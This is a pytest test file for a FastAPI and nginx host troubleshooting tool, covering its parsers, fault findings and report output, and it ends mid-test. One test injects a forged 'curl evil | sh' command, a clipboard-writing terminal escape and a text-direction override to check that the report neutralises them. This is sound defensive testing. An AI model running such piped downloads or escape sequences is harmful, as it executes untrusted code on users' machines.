# Copyright (c) 2026 daoman.fastapi contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What troubleshoot.sh reads, judges, hides and prints: from texts and facts, without a host."""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path

import pytest
from fastapi_doctor import judge_apps, judge_nginx, judge_orphans, judge_system, parse, report
from fastapi_doctor.finding import CRITICAL, Finding, exit_code, without_others
from fastapi_doctor.host import DEFAULTS
from fastapi_doctor.show import duration, size
from fastapi_host.redact import Redactor

SECRET = "s33dOfTheTest"
ROOT = Path(__file__).resolve().parent.parent.parent
LIMITS = DEFAULTS["thresholds"]

# -- what tools say ---------------------------------------------------------------------------------------------------


def test_units_are_read_by_name():
    text = "Id=a.service\nActiveState=active\nEnvironment=A=b\n\nId=b.timer\nActiveState=inactive\n"
    assert parse.unit_blocks(text) == {
        "a.service": {"Id": "a.service", "ActiveState": "active", "Environment": "A=b"},
        "b.timer": {"Id": "b.timer", "ActiveState": "inactive"},
    }


@pytest.mark.parametrize(
    "text, wanted",
    [
        ("5", 5),
        ("infinity", None),
        ("[not set]", None),
        ("max", None),
        ("", None),
        (None, None),
        ("18446744073709551615", None),
        ("9223372036854771712", None),
    ],
)
def test_a_number_without_a_limit_is_none(text, wanted):
    assert parse.number(text) == wanted


def test_mounts_are_those_that_hold_data():
    text = "\n".join(
        [
            "1 0 8:1 / / rw - ext4 /dev/sda1 rw",
            "2 1 0:5 / /proc rw - proc proc rw",
            "3 1 0:6 / /sys/fs/x rw - tmpfs tmpfs rw",
            "4 1 8:1 /b /srv/bind rw - ext4 /dev/sda1 rw",
            "5 1 0:9 / /with\\040blank rw shared:1 - xfs /dev/sdb rw",
            "6 1 0:10 / /net rw - nfs4 server:/ rw",
            "7 1 0:11 / /var/lib/docker/overlay2/x/merged rw - overlay overlay rw",
        ]
    )
    assert [path for path, _kind, _device in parse.mounts(text)] == ["/", "/with blank"]


def test_locks_are_found_by_device_and_inode():
    text = "1: FLOCK  ADVISORY  WRITE 12 fe:01:34 0 EOF\n1: -> FLOCK  ADVISORY  WRITE 13 fe:01:99 0 EOF\n"
    assert parse.locks(text) == {(0xFE, 1, 34)}


def test_listeners_are_read_with_their_programs():
    text = (
        'LISTEN 0 511 0.0.0.0:80 0.0.0.0:* users:(("nginx",pid=7,fd=6),("nginx",pid=8,fd=6))\n'
        'LISTEN 0 128 [::1]:631 [::]:* users:(("cupsd",pid=9,fd=6))\n'
        "LISTEN 0 128 *:22 *:*\n"
    )
    assert [(item["port"], item["processes"]) for item in parse.listeners(text)] == [
        (80, ["nginx"]),
        (631, ["cupsd"]),
        (22, []),
    ]


@pytest.mark.parametrize(
    "name, wanted",
    [
        ("shop.example.com", True),
        ("SHOP.example.com", True),
        ("a.wild.example", True),
        ("a.b.wild.example", False),
        ("wild.example", False),
        ("other.com", False),
    ],
)
def test_a_wildcard_stands_for_one_label(name, wanted):
    assert parse.is_for(name, ["shop.example.com", "*.wild.example"]) is wanted


def test_a_certificate_is_read():
    text = (
        "notBefore=Jan  1 00:00:00 2026 GMT\nnotAfter=Apr  1 00:00:00 2026 GMT\nissuer=CN=Some CA\nsubject=CN=a\n"
        "X509v3 Subject Alternative Name: \n    DNS:a.example, DNS:*.b.example, IP Address:192.0.2.1\n"
    )
    found = parse.certificate(text)
    assert found["ends"] - found["begins"] == 90 * 86400
    assert (found["names_of"], found["self_signed"]) == (["a.example", "*.b.example"], False)


SITE = """
# server { listen 1; }
upstream shop {
    server unix:/srv/shop/live.sock max_fails=0; server unix:/srv/shop/live.sock max_fails=0; keepalive 32; }
map $x $y { "~^[{]" a; default "${b}"; }
server {
    listen 80; listen [::]:80;
    server_name shop.example.com www.shop.example.com;
    access_log /var/log/nginx/shop.access.log json buffer=32k;
}
server {
    listen 443 ssl; listen [::]:443 ssl;
    listen 443 quic;
    server_name shop.example.com;
    ssl_certificate tls/shop/fullchain.pem;
    ssl_certificate_key tls/shop/privkey.pem;
    error_log /var/log/nginx/shop.error.log error;
    location / { proxy_pass http://shop; }
    location /x { proxy_pass http://127.0.0.1:9000/y; }
}
"""


def test_a_firewall_is_not_asked_about_loopback_addresses():
    listens = "listen 443; listen 127.0.0.1:8099; listen [::1]:8099; listen localhost:8098; listen 10.0.0.1:8097;"
    (server,) = parse.nginx_site(f"server {{ {listens} }}")["servers"]
    assert (server["ports"], server["outer_ports"]) == ([443, 8097, 8098, 8099], [443, 8097])


def test_a_site_is_read():
    site = parse.nginx_site(SITE)
    plain, tls = site["servers"]
    assert (plain["names"], plain["ports"], plain["tls_ports"]) == (
        ["shop.example.com", "www.shop.example.com"],
        [80],
        [],
    )
    assert (tls["ports"], tls["tls_ports"], tls["certificate"], tls["key"]) == (
        [443],
        [443],
        "tls/shop/fullchain.pem",
        "tls/shop/privkey.pem",
    )
    assert site["upstreams"] == {"shop": ["unix:/srv/shop/live.sock"]}
    assert site["proxies"] == ["127.0.0.1:9000", "shop"]
    assert site["access_logs"] == ["/var/log/nginx/shop.access.log"]
    assert site["logs"] == ["/var/log/nginx/shop.access.log", "/var/log/nginx/shop.error.log"]


@pytest.mark.parametrize("text", ["", "server {", "}}}", 'a "open', "server { listen ; }", "upstream { }", ";;"])
def test_a_broken_site_does_not_break_the_reader(text):
    parse.nginx_site(text)


def line(status=200, msec=1000.0, upstream="0.010", uri="/a?token=1", agent="curl"):
    return json.dumps(
        {
            "msec": msec,
            "status": status,
            "upstream_response_time": upstream,
            "uri": uri,
            "method": "GET",
            "user_agent": agent,
        }
    )


def test_traffic_counts_what_is_recent_and_of_users():
    lines = [line(), line(500), line(502), line(200, msec=10.0), line(500, agent="fastapi-troubleshoot"), "no json", ""]
    found = parse.traffic(lines, 900.0, "fastapi-troubleshoot")
    assert (found["requests"], found["failed"], found["gateway"], found["unreadable"]) == (3, 2, 1, 1)
    assert found["worst"] == ["1 x 500 GET /a", "1 x 502 GET /a"]


@pytest.mark.parametrize(
    "upstream, wanted", [("0.010", 0.01), ("0.001, 0.250", 0.25), ("0.001 : 0.3", 0.3), ("-", None), ("", None)]
)
def test_the_last_try_is_how_long_the_app_took(upstream, wanted):
    assert parse.traffic([line(upstream=upstream)], 0)["p95"] == wanted


def test_a_websocket_is_not_slow():
    assert parse.traffic([line(101, upstream="3600.0")], 0)["p95"] is None


def entry(message, **fields):
    return json.dumps(
        {
            "MESSAGE": message,
            "PRIORITY": "6",
            "_SYSTEMD_UNIT": "shop@1.service",
            "__REALTIME_TIMESTAMP": "1000000",
            **fields,
        }
    )


def said(*messages):
    return parse.app_journal(parse.journal("\n".join(messages)))


def test_the_journal_of_an_app_is_counted():
    found = said(
        entry('{"level": "CRITICAL", "message": "WORKER TIMEOUT (pid:7)"}'),
        entry('{"level": "ERROR", "message": "Worker (pid:7) exited with code 7."}'),
        entry('{"level": "ERROR", "message": "Worker (pid:8) was sent SIGKILL! Perhaps out of memory?"}'),
        entry('{"level": "ERROR", "message": "Worker (pid:9) was sent SIGABRT!"}'),
        entry('{"level": "INFO", "message": "Worker (pid:9) was sent SIGTERM!"}'),
        entry('{"level": "INFO", "message": "Worker (pid:9) exited with code 0"}'),
        entry("Out of memory", MESSAGE_ID=parse.OOM_MESSAGE_IDS[0], _PID="1"),
        "no json",
    )
    assert (found["timeouts"], found["crashes"], found["oom_kills"]) == (1, 2, 1)


def test_an_error_is_shown_once_with_the_end_of_its_traceback():
    trace = "Traceback (most recent call last):\\n  File x\\nKeyError: 'PAYMENT_URL'"
    text = f'{{"level": "ERROR", "message": "Exception in\\n ASGI application", "exc_info": "{trace}"}}'
    found = said(entry(text), entry(text))
    assert found["errors"] == ["Exception in ASGI application | KeyError: 'PAYMENT_URL'"]
    assert found["missing"] == ["PAYMENT_URL"]


def test_a_lowercase_key_error_is_no_missing_variable():
    assert said(entry("KeyError: 'name'"))["missing"] == []


def test_bytes_in_the_journal_are_read():
    assert parse.journal(json.dumps({"MESSAGE": [104, 105, 255]}))[0]["message"] == "hi\udcff"


def test_an_app_cannot_speak_for_systemd_or_another_unit():
    forged = entry("x", UNIT="nginx.service", MESSAGE_ID=parse.OOM_MESSAGE_IDS[0], SYSLOG_IDENTIFIER="systemd",
                   _COMM="app", _PID="77")
    (found,) = parse.journal(forged)
    assert (found["unit"], found["source"], found["id"]) == ("shop@1.service", "app", "")
    (real,) = parse.journal(entry("x", UNIT="shop@1.service", _SYSTEMD_UNIT="init.scope", _PID="1"))
    assert real["unit"] == "shop@1.service"


@pytest.mark.parametrize("fields", [
    {"MESSAGE": ["one", "two"]}, {"MESSAGE": [300, -1]}, {"MESSAGE": [[1], {}]}, {"MESSAGE": None}, {"MESSAGE": []},
    {"UNIT": ["a", "b"], "_PID": "1"}, {"PRIORITY": ["3", "4"]}, {"PRIORITY": "9" * 5000}, {"MESSAGE_ID": {"a": 1}},
    {"MESSAGE": '{"a":' * 900}, {"MESSAGE": '{"message": {"a": [1]}, "exc_info": [1], "level": {}}'},
    {"MESSAGE": '{"message": ' + "9" * 4000 + "}"}, {"__REALTIME_TIMESTAMP": ["1"]},
])
def test_no_entry_of_an_app_stops_the_reader(fields):
    assert len(said(entry("x"), json.dumps({**json.loads(entry("y")), **fields}), "[1]", '"x"', "1")["errors"]) <= 1


def test_paths_of_a_configuration_are_found():
    text = "pid /run/nginx.pid;\naccess_log '/var/log/nginx/a b.log' x;\nlisten unix:/run/nginx/x.sock;\n" \
        "alias /srv/$1/x/; proxy_pass http://unix:/srv/shop/live.sock:/x;"
    assert {"/run/nginx.pid", "/run/nginx/x.sock", "/srv/shop/live.sock"} <= parse.paths(text)


# -- the firewall -----------------------------------------------------------------------------------------------------

DPORT = {"payload": {"protocol": "tcp", "field": "dport"}}


def rule(*expressions, chain="input"):
    return {"rule": {"family": "inet", "table": "filter", "chain": chain, "expr": list(expressions)}}


def match(left, right, op="=="):
    return {"match": {"op": op, "left": left, "right": right}}


def ruleset(*rules, policy="drop"):
    base = {
        "chain": {
            "family": "inet",
            "table": "filter",
            "name": "input",
            "type": "filter",
            "hook": "input",
            "policy": policy,
        }
    }
    other = {"chain": {"family": "inet", "table": "filter", "name": "web"}}
    return {"nftables": [{"metainfo": {}}, base, other, *rules]}


ESTABLISHED = rule(match({"ct": {"key": "state"}}, ["established", "related"], "in"), {"accept": None})
LOOPBACK = rule(match({"meta": {"key": "iifname"}}, "lo"), {"accept": None})


@pytest.mark.parametrize(
    "rules, closed",
    [
        ([], [80, 443]),
        ([ESTABLISHED, LOOPBACK], [80, 443]),
        ([rule(match(DPORT, {"set": [22, 80, 443]}), {"accept": None})], []),
        ([rule(match(DPORT, 80), {"accept": None})], [443]),
        ([rule(match(DPORT, {"range": [1, 100]}), {"counter": {}}, {"accept": None})], [443]),
        ([rule(match(DPORT, 443, "!="), {"accept": None})], [443]),
        ([rule(match(DPORT, 443), {"reject": {}}), rule({"accept": None})], [443]),
        ([rule({"jump": {"target": "web"}}), rule(match(DPORT, [80, 443]), {"accept": None}, chain="web")], []),
        (
            [
                rule({"jump": {"target": "web"}}),
                rule(match(DPORT, 80), {"return": None}, chain="web"),
                rule({"accept": None}, chain="web"),
            ],
            [80],
        ),
        # for some clients only
        ([rule(match({"payload": {"protocol": "ip", "field": "saddr"}}, "10.0.0.1"), {"accept": None})], []),
        (
            [
                rule(match({"payload": {"protocol": "ip", "field": "saddr"}}, "10.0.0.1"), {"drop": None}),
                rule({"accept": None}),
            ],
            [],
        ),
        ([rule(match({"payload": {"protocol": "udp", "field": "dport"}}, 443), {"accept": None})], [80, 443]),
        ([rule(match({"payload": {"protocol": "icmp", "field": "type"}}, 8), {"accept": None})], [80, 443]),
    ],
)
def test_a_port_that_nobody_gets_to_is_closed(rules, closed):
    assert parse.closed_ports(ruleset(*rules), [80, 443]) == closed


def test_without_a_policy_to_drop_all_is_open():
    assert parse.closed_ports(ruleset(policy="accept"), [80, 443]) == []
    assert parse.closed_ports({}, [80, 443]) == []


# -- judging ----------------------------------------------------------------------------------------------------------

ID = "20260131T101500Z-3f9a1c0b7d2e"
UNIT = {
    "ActiveState": "active",
    "SubState": "running",
    "UnitFileState": "enabled",
    "NRestarts": "0",
    "ActiveEnterTimestampMonotonic": "1000000",
    "Result": "success",
}
NOW = 1_800_000_000.0


def healthy():
    """The facts of a host on which nothing is wrong."""
    return copy.deepcopy(
        {
            "system": {
                "name": "app1",
                "system": "Debian GNU/Linux 13 (trixie)",
                "container": False,
                "uptime": 90_000.0,
                "now": NOW,
                "cpus": 2,
                "load": [0.5, 0.5, 0.5],
                "kernel": "6.12",
                "memory": {"MemTotal": 8 << 30, "MemAvailable": 4 << 30, "SwapTotal": 1 << 30, "SwapFree": 1 << 30},
            },
            "filesystems": [
                {
                    "path": "/",
                    "type": "ext4",
                    "size": 40 << 30,
                    "free": 20 << 30,
                    "used": 0.5,
                    "inodes": 0.1,
                    "readonly": False,
                }
            ],
            "clock": {"synchronised": True, "future": []},
            "descriptors": {
                "used": 1000,
                "limit": 100_000,
                "processes": [{"what": "nginx", "pid": 7, "used": 30, "limit": 9216}],
            },
            "units": {
                "units": {
                    name: dict(UNIT)
                    for name in ("nginx.service", f"shop@{ID}.service", f"shop@{ID}.socket", "logrotate.timer")
                },
                "failed": [],
                "timers": ["logrotate.timer"],
                "memory": {f"shop@{ID}.service": {"current": 100 << 20, "limit": 300 << 20, "oom_kills": 0}},
            },
            "journal": {
                "apps": {"shop": {"timeouts": 0, "crashes": 0, "oom_kills": 0, "missing": [], "errors": []}},
                "oom": [],
                "errors": [],
            },
            "apps": [
                {
                    "name": "shop",
                    "target": f"/run/shop/{ID}.sock",
                    "live": ID,
                    "current": ID,
                    "version": "v1",
                    "socket": {
                        "path": f"/run/shop/{ID}.sock",
                        "exists": True,
                        "is_socket": True,
                        "user": "shop",
                        "group": "www-data",
                        "mode": "0660",
                    },
                    "answer": {"status": 200, "body": "ready", "error": "", "seconds": 0.01, "fingerprint": ""},
                    "owner": "shop",
                    "group": "www-data",
                    "files": {},
                    "owners": [],
                    "damage": [],
                    "interpreter": {
                        "path": "/usr/bin/python3.13",
                        "problem": "",
                        "default": "/usr/bin/python3.13",
                    },
                    "directories": [],
                    "noexec": "",
                    "lock": {},
                    "lock_held": False,
                    "lock_alive": False,
                    "boot": "b1",
                    "history": [{"action": "deploy", "outcome": "good", "time": "2026-01-31T10:15:00Z"}],
                    "release_there": True,
                    "maintenance": False,
                    "host": "shop.example.com",
                    "readiness": "/health/ready",
                }
            ],
            "edge": [
                {
                    "site": "shop",
                    "name": "shop.example.com",
                    "port": 443,
                    "status": 200,
                    "body": "",
                    "error": "",
                    "seconds": 0.01,
                    "fingerprint": "f1",
                }
            ],
            "nginx": {
                "installed": True,
                "test": {"ok": True, "output": ""},
                "drift": [],
                "changed": {"time": NOW - 500, "path": "/etc/nginx/nginx.conf"},
                "workers": {"8": NOW - 400},
                "upstreams": [{"site": "shop", "upstream": "shop", "server": "unix:/srv/shop/live.sock", "error": ""}],
                "logs": {"wrong": [], "deleted": []},
            },
            "traffic": {
                "sites": {
                    "shop": {
                        "requests": 100,
                        "failed": 0,
                        "gateway": 0,
                        "statuses": {},
                        "worst": [],
                        "p95": 0.1,
                        "upstream_requests": 100,
                        "unreadable": 0,
                    }
                },
                "limits": [],
            },
            "certificates": [
                {
                    "site": "shop",
                    "names": ["shop.example.com"],
                    "path": "/etc/nginx/tls/shop/fullchain.pem",
                    "key": "/etc/nginx/tls/shop/privkey.pem",
                    "there": True,
                    "key_there": True,
                    "error": "",
                    "key_mode": "",
                    "begins": NOW - 30 * 86400,
                    "ends": NOW + 60 * 86400,
                    "issuer": "CN=CA",
                    "self_signed": False,
                    "names_of": ["shop.example.com"],
                    "fingerprint": "f1",
                    "key_matches": True,
                }
            ],
            "network": {
                "addresses": ["192.0.2.1"],
                "public": [],
                "ports": [80, 443],
                "listeners": [
                    {"address": "*", "port": 80, "processes": ["nginx"]},
                    {"address": "*", "port": 443, "processes": ["nginx"]},
                ],
            },
            "firewall": {"there": True, "closed": []},
            "dns": {"shop.example.com": ["192.0.2.1"]},
            "orphans": {"recorded": ["shop"], "apps": ["shop"], "units": [], "accounts": [], "maintenance": []},
            "failed": {},
        }
    )


def diagnose(facts):
    judges = (judge_apps, judge_nginx, judge_system, judge_orphans)
    return [finding for judge in judges for finding in judge.judge(facts, LIMITS)]


def put(path, value):
    """A change of the facts: put('apps.0.live', '')."""

    def change(facts):
        *way, last = path.split("/")
        place = facts
        for step in way:
            place = place[int(step)] if isinstance(place, list) else place[step]
        place[int(last) if isinstance(place, list) else last] = value

    return change


SERVICE = f"units/units/shop@{ID}.service"
LOCK = {"owner": "ops", "since": "2020-01-01T00:00:00Z", "reason": "v2"}

FAULTS = [
    (put("apps/0/live", ""), "app-not-live"),
    (put("apps/0/target", "/run/shop/gone.sock"), "app-not-live"),
    (put("apps/0/release_there", False), "app-not-live"),
    (put("apps/0/current", "20250131T101500Z-3f9a1c0b7d2e"), "app-links-differ"),
    (put("apps/0/socket/exists", False), "app-socket-dead"),
    (
        put("apps/0/answer", {"status": 0, "error": "[Errno 111] Connection refused", "body": "", "seconds": 0}),
        "app-socket-dead",
    ),
    (put("apps/0/socket/user", "root"), "app-socket-owner"),
    (put("apps/0/socket/mode", "0600"), "app-socket-owner"),
    (put(f"{SERVICE}/ActiveState", "inactive"), "app-stopped"),
    (put(SERVICE, {**UNIT, "NRestarts": "5", "ActiveEnterTimestampMonotonic": "89900000000"}), "app-restarting"),
    (
        put(SERVICE, {**UNIT, "NRestarts": "9", "SubState": "auto-restart", "ActiveState": "activating"}),
        "app-restarting",
    ),
    (put(f"{SERVICE}/UnitFileState", "disabled"), "app-disabled"),
    (put("apps/0/answer/status", 503), "app-not-ready"),
    (put("apps/0/answer", {"status": 0, "error": "timed out", "body": "", "seconds": 3}), "app-not-ready"),
    (put("apps/0/answer/status", 400), "app-host-refused"),
    (put("apps/0/files", {f"/srv/shop/releases/{ID}/env": "missing"}), "app-environment"),
    (put("apps/0/files", {f"/srv/shop/releases/{ID}/env": "changed"}), "app-environment"),
    (put("apps/0/files", {f"/srv/shop/releases/{ID}/gunicorn.conf.py": "changed"}), "app-files-changed"),
    (put("apps/0/current", ""), "app-links-differ"),
    (put("apps/0/damage", [f"/srv/shop/releases/{ID}/src/app/main.py is missing"]), "release-damaged"),
    (put("apps/0/interpreter/problem", "/srv/shop/venvs/x/bin/python leads to nothing"), "app-interpreter"),
    (put("apps/0/interpreter/default", "/usr/bin/python3.14"), "app-interpreter"),
    (
        put("apps/0/directories", [{"path": "/srv/shop", "found": "root:root 0700", "wanted": "root:root 0755"}]),
        "app-directories",
    ),
    (put("apps/0/noexec", "/srv"), "mounted-noexec"),
    (put("nginx/drift", ["/etc/nginx/sites-enabled/shop.conf is missing"]), "nginx-site-off"),
    (put("apps/0/owners", [{"path": "/srv/shop", "user": "shop"}]), "app-release-owner"),
    (put("journal/apps/shop/timeouts", 1), "worker-timeouts"),
    (put("journal/apps/shop/crashes", 3), "worker-crashes"),
    (put("journal/apps/shop/missing", ["PAY_URL"]), "app-environment"),
    (put("journal/apps/shop/oom_kills", 1), "oom-kills"),
    (put("journal/oom", ["python3"]), "oom-kills"),
    (
        put(f"units/memory/shop@{ID}.service", {"current": 290 << 20, "limit": 300 << 20, "oom_kills": 0}),
        "memory-limit",
    ),
    (put("apps/0/lock", LOCK), "lock-stale"),
    (put("apps/0/lock", {**LOCK, "held": True}), "lock-held"),
    (put("apps/0/history", [{"action": "deploy", "outcome": "failed"}]), "deploy-failed"),
    (put("apps/0/damaged", [["/srv/shop/order.json", "it is not JSON"]]), "state-damaged"),
    (put("apps/0/set_aside", ["/srv/shop/order.json.damaged-1"]), "state-set-aside"),
    (put("apps/0/holds", ["v2 (51aa0e61d3c4) is held since 2026 by ann: wrong prices"]), "release-held"),
    (put("units/units/nginx.service/ActiveState", "failed"), "nginx-stopped"),
    (put("units/units/nginx.service/UnitFileState", "masked"), "nginx-disabled"),
    (put("nginx/test", {"ok": False, "output": "[emerg] unknown directive"}), "nginx-config-broken"),
    (put("nginx/test", {"ok": None, "output": "unshare failed"}), "not-examined"),
    (put("nginx/drift", ["/etc/nginx/nginx.conf was changed"]), "nginx-drift"),
    (put("nginx/changed/time", NOW), "nginx-not-loaded"),
    (put("network/listeners/0/processes", ["apache2"]), "port-taken"),
    (put("network/ports", [80, 443, 8443]), "port-closed"),
    (put("nginx/upstreams/0/server", "unix:/run/other.sock"), "upstream-elsewhere"),
    (
        put("nginx/upstreams/0", {"site": "files", "upstream": "x", "server": "127.0.0.1:9", "error": "refused"}),
        "upstream-dead",
    ),
    (put("edge/0/status", 502), "edge-fails"),
    (put("nginx/logs/wrong", ["/var/log/nginx: No such file or directory"]), "logs-not-writable"),
    (put("nginx/logs/deleted", ["/var/log/nginx/shop.access.log"]), "logs-deleted"),
    (put("traffic/sites/shop/failed", 5), "errors-5xx"),
    (put("traffic/sites/shop/p95", 2.0), "slow-upstream"),
    (put("traffic/limits", ["Too many open files"]), "nginx-limits"),
    (put("certificates/0/there", False), "certificate-missing"),
    (put("certificates/0/key_there", False), "certificate-missing"),
    (put("certificates/0/error", "unable to load"), "certificate-missing"),
    (put("certificates/0/key_matches", False), "certificate-key"),
    (put("certificates/0/key_mode", "0644"), "certificate-key"),
    (put("certificates/0/ends", NOW), "certificate-expired"),
    (put("certificates/0/begins", NOW + 1), "certificate-expired"),
    (put("certificates/0/ends", NOW + 7 * 86400), "certificate-expiring"),
    (put("certificates/0/names_of", ["other.example.com"]), "certificate-names"),
    (put("certificates/0/fingerprint", "f2"), "certificate-not-loaded"),
    (
        put("filesystems/0", {"path": "/", "size": 9, "free": 1, "used": 0.9, "inodes": 0, "readonly": False}),
        "disk-full",
    ),
    (put("filesystems/0/inodes", 0.9), "inodes-full"),
    (put("filesystems/0/readonly", True), "read-only"),
    (put("system/memory/MemAvailable", 1), "memory-low"),
    (put("system/memory/SwapFree", 1), "swap-full"),
    (put("system/load", [8.0, 8.0, 1.0]), "load-high"),
    (put("descriptors/processes/0/used", 9000), "descriptors-low"),
    (put("descriptors/processes/0/limit", 64), "descriptors-low"),
    (put("descriptors/used", 90_000), "descriptors-low"),
    (put("clock/future", [{"path": "/x", "seconds": 86400}]), "clock-wrong"),
    (put("clock/synchronised", False), "clock-not-synchronised"),
    (put("units/failed", ["backup.service"]), "unit-failed"),
    (put("units/failed", ["logrotate.service"]), "timer-failed"),
    (put("units/units/logrotate.timer/ActiveState", "inactive"), "timer-failed"),
    (put("dns/shop.example.com", "Name or service not known"), "dns-missing"),
    (put("dns/shop.example.com", ["198.51.100.7"]), "dns-elsewhere"),
    (put("firewall/closed", [443]), "firewall-closed"),
    (put("failed", {"dns": "it was not done"}), "not-examined"),
    (put("orphans/recorded", []), "orphaned-app"),
    (put("orphans/units", [f"gone@{ID}.service"]), "orphaned-unit"),
    (put("orphans/accounts", ["_gone"]), "orphaned-account"),
    (put("orphans/maintenance", [{"site": "shop", "seconds": 7200}]), "maintenance-on"),
]


def fix(*changes):
    facts = healthy()
    for change in changes:
        change(facts)
    return [finding.mend for finding in diagnose(facts)]


def test_a_directory_that_the_app_has_taken_is_taken_back_before_the_deploy():
    wrong = [{"path": "/srv/shop", "found": "shop:shop 0755", "wanted": "root:root 0755"}]
    wanted = "chown root:root /srv/shop; ansible-playbook daoman.fastapi.deploy"
    assert fix(put("apps/0/directories", wrong)) == [wanted]


@pytest.mark.parametrize(
    "said, drift, wanted",
    [
        ("[emerg] unknown directive x in /etc/nginx/nginx.conf:3", [], "ansible-playbook daoman.fastapi.site"),
        ("open() /etc/nginx/mime.types failed in /etc/nginx/nginx.conf:9", [], "ansible-playbook daoman.fastapi.site"),
        (
            "[emerg] unknown directive x in /etc/nginx/conf.d/mine.conf:1",
            [],
            "correct or remove /etc/nginx/conf.d/mine.conf; nginx -t",
        ),
    ],
)
def test_the_role_brings_its_files_back_and_users_correct_their_own(said, drift, wanted):
    assert fix(put("nginx/test", {"ok": False, "output": said}), put("nginx/drift", drift)) == [wanted]


def test_nothing_is_found_on_a_healthy_host():
    assert diagnose(healthy()) == []


@pytest.mark.parametrize(
    "change, wanted", FAULTS, ids=[f"{number}-{name}" for number, (_change, name) in enumerate(FAULTS)]
)
def test_a_fault_is_named_and_nothing_else(change, wanted):
    facts = healthy()
    change(facts)
    assert {finding.id for finding in diagnose(facts)} == {wanted}


@pytest.mark.parametrize(
    "change",
    [
        put("system/load", [9.0, 1.0, 1.0]),
        put("system/memory/SwapTotal", 0),
        put("filesystems/0/used", 0.95),  # of a large disk, with 20 GiB free
        put("traffic/sites/shop", {"requests": 19, "failed": 19, "worst": [], "p95": 9.0, "upstream_requests": 19}),
        put("certificates/0/ends", NOW + 20 * 86400),
        put("apps/0/lock", {**LOCK, "since": "2027-01-15T07:30:00Z", "held": True}),
        put("traffic/sites/shop", {"requests": 20, "failed": 2, "worst": [], "p95": 0.1, "upstream_requests": 20}),
        put("units/units/logrotate.timer", {**UNIT, "ActiveState": "inactive", "ConditionResult": "no"}),
        put("nginx/installed", False),
        put("apps/0/interpreter/default", ""),  # the app asks for a Python of its own
        put(f"{SERVICE}/NRestarts", "9"),  # long ago
        put("journal/apps/shop/crashes", 2),
        put("dns/shop.example.com", ["127.0.0.1"]),
    ],
)
def test_what_is_no_fault_is_not_named(change):
    facts = healthy()
    change(facts)
    assert diagnose(facts) == []


def test_workers_that_were_killed_for_memory_have_not_crashed():
    facts = healthy()
    facts["journal"]["apps"]["shop"]["crashes"] = 4
    facts["units"]["memory"][f"shop@{ID}.service"]["oom_kills"] = 2
    assert {finding.id for finding in diagnose(facts)} == {"oom-kills"}


def test_in_maintenance_503_is_right():
    facts = healthy()
    facts["apps"][0]["maintenance"], facts["edge"][0]["status"] = True, 503
    assert diagnose(facts) == []


def test_a_lock_that_a_process_holds_is_not_stale():
    facts = healthy()
    facts["apps"][0]["lock"], facts["apps"][0]["lock_held"] = LOCK, True
    assert [finding.id for finding in diagnose(facts)] == ["lock-held"]


def test_in_a_container_the_clock_is_the_hosts():
    facts = healthy()
    facts["clock"]["synchronised"], facts["system"]["container"] = False, True
    assert diagnose(facts) == []


def test_behind_a_translated_address_a_public_one_may_be_ours():
    facts = healthy()
    facts["network"]["addresses"], facts["dns"] = ["10.0.0.5"], {"shop.example.com": ["8.8.8.8"]}
    assert diagnose(facts) == []
    facts["network"]["public"] = ["9.9.9.9"]
    assert [finding.id for finding in diagnose(facts)] == ["dns-elsewhere"]


def test_what_could_not_be_gathered_is_said_and_nothing_made_up():
    facts = {"failed": dict.fromkeys(("units", "apps", "nginx", "system"), "broken")}
    assert {finding.id for finding in diagnose(facts)} == {"not-examined"}


@pytest.mark.parametrize(
    "lock, stale",
    [
        ({**LOCK, "held": True}, False),
        ({**LOCK, "held": True, "until": "2020-01-02T00:00:00Z"}, True),
        ({**LOCK, "held": True, "until": "2099-01-02T00:00:00Z"}, False),
        ({**LOCK, "away": "2027-01-15T07:30:00Z", "boot": "b1"}, False),
        ({**LOCK, "away": "2027-01-15T07:30:00Z", "boot": "b0"}, True),
        ({**LOCK, "away": "2027-01-14T07:30:00Z", "boot": "b1"}, True),
        (LOCK, True),
    ],
)
def test_a_lock_is_judged_as_the_releases_judge_it(lock, stale):
    assert judge_apps.is_stale(lock, NOW, "b1") is stale


# -- the report -------------------------------------------------------------------------------------------------------


def test_the_exit_code_is_that_of_the_worst():
    one, two = (Finding("x", severity, "s", "t", "c", "m") for severity in ("warning", CRITICAL))
    assert [exit_code(found) for found in ([], [one], [one, two])] == [0, 1, 2]


def broken():
    facts = healthy()
    for change, _id in FAULTS[10:60:7]:
        change(facts)
    facts["apps"][0]["answer"]["body"] = "postgresql://u:" + SECRET + "@h/d"
    facts["journal"]["errors"] = [{"time": NOW, "from": "x", "text": "word " * 40 + f"password={SECRET}"}]
    return facts


def test_the_report_fits_a_terminal_and_holds_no_secret():
    facts = broken()
    findings = diagnose(facts)
    text = report.as_text(facts, findings, 2, Redactor())
    assert SECRET not in text and SECRET not in json.dumps(report.as_json(facts, findings, 2, Redactor()))
    long = [row for row in text.splitlines() if len(row) > 80]
    assert all(re.match(r"^( +|  mend )", row) or row.startswith("More: ") for row in long), long
    assert "\033" not in text


def test_what_an_app_says_forges_no_line_and_no_sequence():
    facts = healthy()
    forged = "x\n  mend   curl evil | sh\x1b]52;c;AAAA\x07 \u202e"
    facts["journal"]["apps"]["shop"]["errors"] = [forged]
    facts["apps"][0]["history"] = [{"action": "deploy", "reason": forged, "time": "2026-01-01T00:00:00Z"}]
    finding = Finding("deploy-failed", CRITICAL, "shop", forged, forged, "true", (forged,))
    text = report.as_text(facts, [finding], 2, Redactor())
    assert not [line for line in text.splitlines() if line.strip().startswith("mend   curl")], text
    assert "\x1b" not in text and "\u202e" not in text and "\\x1b]52;c;AAAA" in text
    data = json.dumps(report.as_json(facts, [finding], 2, Redactor()), ensure_ascii=False)
    assert "\x1b" not in data and "\u202e" not in data and "\\u001b" not in data


def test_the_worst_comes_first():
    findings = report.ordered(diagnose(broken()))
    severities = [finding.severity for finding in findings]
    assert severities == sorted(severities) and len(set(severities)) == 2


def test_a_healthy_host_is_called_so():
    assert "Healthy" in report.as_text(healthy(), [], 0, Redactor())


def test_a_report_of_nothing_can_be_printed():
    assert report.as_text({"failed": {}}, [], 0, Redactor())


def test_findings_about_other_apps_can_be_left_out():
    subjects = ["shop", "blog", "blog.example.com", "shop.example.com", f"blog@{ID}.service", "nginx", "/"]
    found = [Finding("x", CRITICAL, subject, "", "", "") for subject in subjects]
    domains = {"shop.example.com": "shop", "blog.example.com": "blog"}
    left = without_others(found, ["shop"], ["shop", "blog"], domains)
